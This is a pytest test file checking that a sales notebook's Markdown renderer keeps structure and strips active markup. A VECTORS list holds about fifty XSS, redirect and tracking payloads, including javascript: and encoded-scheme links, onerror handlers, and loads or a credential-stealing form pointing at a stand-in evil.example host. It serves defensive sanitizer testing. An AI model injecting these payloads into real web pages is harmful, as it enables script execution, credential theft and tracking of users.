"""Rendered notes keep Markdown structure and never carry active markup."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sales_notebook.core.rendering import MAX_RENDER_CHARS, render_notes

# Known XSS, redirect and tracking vectors, in raw HTML and in Markdown forms.
VECTORS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1)">',
    "<img src=https://tracker.example/p.gif width=1 height=1>",
    "![x](https://tracker.example/p.gif)",
    "![x][px]\n\n[px]: https://tracker.example/pixel.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript:alert(1))",
    "[click](java&#09;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[ref][evil]\n\n[evil]: javascript:alert(1)",
    "[ref][d]\n\n[d]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<style>body{background:url(https://tracker.example/bg.png)}</style>",
    '<div style="background:url(https://tracker.example/bg.png)">x</div>',
    '<p style="width:expression(alert(1))">css expression</p>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/steal"><input name=p></form>',
    '<base href="https://evil.example/">',
    '<body onload="alert(1)">',
    '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(2)>x</a>',
    '<video><source onerror="alert(1)"></video>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<script>alert(1)//-->",
    '<details open ontoggle="alert(1)">',
    "**bold <img src=x onerror=alert(1)>**",
    "- item <iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    "[x](https://ok.example){: onclick=alert(1) }",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "[x](\u200bjavascript:alert(1))",
]

FORBIDDEN_TAGS = {
    "script", "img", "iframe", "svg", "style", "link", "meta", "object", "embed",
    "form", "input", "base", "body", "video", "source", "math", "details", "frame",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"href", "title", "rel"}
SAFE_SCHEMES = ("http:", "https:", "mailto:")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\ufeff]+")
_ACTIVE_ATTRIBUTE = re.compile(r"<[^>]*\s(src|style|on[a-z]+)\s*=")


class _Markup(HTMLParser):
    """Collects the tags and attributes a browser would actually see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            self.attributes.append((tag, name, value or ""))

    handle_startendtag = handle_starttag


def assert_inert(output: str) -> None:
    markup = _Markup()
    markup.feed(output)
    markup.close()
    assert not FORBIDDEN_TAGS.intersection(markup.tags), output
    for tag, name, value in markup.attributes:
        assert name in ALLOWED_ATTRIBUTES, (tag, name, output)
        assert not name.startswith("on"), output
        if name == "href":
            # Decode more than a browser would, so doubly encoded schemes fail too.
            decoded = value
            for _ in range(3):
                decoded = html.unescape(decoded)
            decoded = _INVISIBLE.sub("", decoded).lower()
            assert decoded.startswith(SAFE_SCHEMES), (value, output)
            for bad in ("javascript:", "data:", "vbscript:"):
                assert bad not in decoded, output
    # Every "<" left in the output opens a real tag (typed ones are escaped), so
    # these checks on the raw string see markup only, never the visible text.
    lowered = output.lower()
    for marker in ("<script", "<img", "<iframe", "<svg", "<style", "<base", "<meta", "<link"):
        assert marker not in lowered, output
    for marker in ("<form", "<object", "<embed", "<input", "<body"):
        assert marker not in lowered, output
    assert not _ACTIVE_ATTRIBUTE.search(lowered), output


def test_there_are_enough_vectors() -> None:
    assert len(VECTORS) >= 30


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_is_inert(vector: str) -> None:
    assert_inert(render_notes(vector))
    assert_inert(render_notes(f"# Call notes\n\n- point one\n- {vector}\n\nafter"))


def test_raw_html_is_shown_as_text() -> None:
    out = render_notes("<script>alert(1)</script>")
    assert "&lt;script&gt;" in out


def test_markdown_structure_survives() -> None:
    out = render_notes(
        "# Acme call\n\n## Next steps\n\n- **Send** the *pilot* plan\n- Book demo\n\n"
        "1. first\n2. second\n\n> they said so\n\n---\n\n`code` and ~~old~~"
    )
    for fragment in (
        "<h1>Acme call</h1>",
        "<h2>Next steps</h2>",
        "<ul>",
        "<ol>",
        "<li><strong>Send</strong> the <em>pilot</em> plan</li>",
        "<blockquote>",
        "<hr",
        "<code>code</code>",
        "<del>old</del>",
    ):
        assert fragment in out


def test_https_and_mailto_links_survive_with_safe_rel() -> None:
    out = render_notes("See [the deck](https://example.com/deck) or mail <anna@example.com>")
    assert '<a href="https://example.com/deck" rel="noopener noreferrer nofollow">' in out
    assert 'href="mailto:anna@example.com"' in out


def test_tables_render() -> None:
    out = render_notes("| who | role |\n|---|---|\n| Anna | CFO |")
    assert "<table>" in out and "<td>CFO</td>" in out


def test_fenced_code_keeps_its_text_escaped() -> None:
    out = render_notes("```\nif a < b: pass\n```")
    assert "<pre><code>if a &lt; b: pass" in out


def test_images_never_render() -> None:
    out = render_notes("![logo](https://example.com/logo.png)")
    assert "<img" not in out
    assert "logo" in out


def test_very_long_notes_are_truncated_with_a_note() -> None:
    notes = "- a line of notes\n" * (MAX_RENDER_CHARS // 10)
    out = render_notes(notes)
    assert "Notes truncated" in out
    assert len(out) < len(notes) * 3


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>\"'=/:;&#[]()!*_`-\n abcjsvript")), max_size=200))
def test_arbitrary_markup_soup_is_inert(text: str) -> None:
    assert_inert(render_notes(text))


@pytest.mark.parametrize(
    "unsafe",
    [
        '<img src="x">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="&amp;#106;avascript:alert(1)">x</a>',
        '<p onclick="x">y</p>',
        '<p style="color:red">y</p>',
    ],
)
def test_the_checker_itself_catches_live_markup(unsafe: str) -> None:
    with pytest.raises(AssertionError):
        assert_inert(unsafe)


def test_a_list_typed_right_under_a_line_is_still_a_list() -> None:
    out = render_notes("Pain:\n- no-shows\n- late data\n- churn")
    assert "<p>Pain:</p>" in out
    assert out.count("<li>") == 3


def test_list_markers_inside_fenced_code_stay_code() -> None:
    out = render_notes("```\nstep:\n- not a list\n```")
    assert "<li>" not in out and "- not a list" in out


def test_one_notes_markdown_leaves_nothing_in_the_next() -> None:
    """Each thread reuses one Markdown: what one call's notes defined (an abbreviation, a
    fenced block in the stash) must not show up in the next call's."""
    first = render_notes("*[ROI]: Return on investment\n\nThe ROI case.\n\n```\ncode\n```")
    assert '<abbr title="Return on investment">ROI</abbr>' in first and "code" in first
    second = render_notes("ROI was never discussed.")
    assert "<abbr" not in second and "code" not in second
    assert second == render_notes("ROI was never discussed.")


def test_notes_render_alike_on_several_threads_at_once() -> None:
    from concurrent.futures import ThreadPoolExecutor

    notes = [f"*[K{n}]: key {n}\n\n- K{n} point\n- plain" for n in range(40)]
    expected = [render_notes(text) for text in notes]
    with ThreadPoolExecutor(max_workers=4) as pool:
        assert list(pool.map(render_notes, notes)) == expected
